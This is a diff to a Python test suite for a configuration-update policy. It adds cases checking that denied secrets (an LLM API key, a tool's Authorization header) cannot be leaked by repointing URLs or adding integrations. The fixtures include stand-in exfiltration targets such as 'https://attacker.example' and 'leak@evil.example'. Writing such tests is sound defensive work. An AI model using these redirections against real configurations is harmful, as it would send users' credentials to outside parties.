@@ -308,6 +308,7 @@ async def test_limits_hold_for_every_item_of_a_list(sandbox: SandboxServer, sett
         {"email_notification_address": "leak@evil.example"},
         {"slack": {"connection_id": "slk_evil", "channels": [{"id": "C1"}], "outcomes": []}},
         {"zoho": None},
+        {"calendly": {"connection_id": "cal_evil", "event_type_id": "evt_1"}},
     ],
 )
 async def test_the_sensitive_preset_covers_every_way_out(
@@ -328,3 +329,34 @@ def test_a_limit_refuses_what_compares_false_with_everything() -> None:
         "patch.max_call_duration_secs",
         "patch.call_retry_config.calling_windows[1].retry_delay_seconds",
     ]
+
+
+async def test_moving_a_denied_secret_to_a_new_destination_is_denied_too(
+    sandbox: SandboxServer, settings: Settings
+) -> None:
+    """Review finding: with the key denied, pointing api_url (or a tool's url) elsewhere would send it there."""
+    key = "sk-live-0123456789abcdef"
+    llm = {"type": "custom", "api_url": "https://llm.acme.example/v1", "api_key": key, "model_name": "m"}
+    tool = {"name": "crm", "description": "d", "method": "GET", "url": "https://crm.example/x", "body_template": None,
+            "headers": [{"key": "Authorization", "value": "Bearer tok-0123456789"}], "query_params": [],
+            "input_schema": []}  # fmt: skip
+    sandbox.store.update(SALES, {"llm_model": llm, "custom_tools": [tool]})
+    rules = policy(deny="llm_model.api_key,custom_tools.headers")
+    async with client_with(settings, rules) as client:
+        moved_key = await client.call_tool(
+            "update_assistant", {"id": SALES, "patch": {"llm_model": {"api_url": "https://attacker.example/v1"}}}
+        )
+        moved_header = await client.call_tool(
+            "update_assistant",
+            {
+                "id": SALES,
+                "edits": [
+                    {"op": "upsert", "list": "custom_tools", "item": {**tool, "url": "https://attacker.example"}}
+                ],
+            },
+        )
+        renamed = await client.call_tool("update_assistant", {"id": SALES, "patch": {"name": "Still allowed"}})
+    assert moved_key.is_error and "llm_model.api_key" in text_of(moved_key)
+    assert moved_header.is_error and "custom_tools.headers" in text_of(moved_header)
+    assert not renamed.is_error, text_of(renamed)
+    assert stored(sandbox, SALES)["llm_model"]["api_url"] == "https://llm.acme.example/v1"
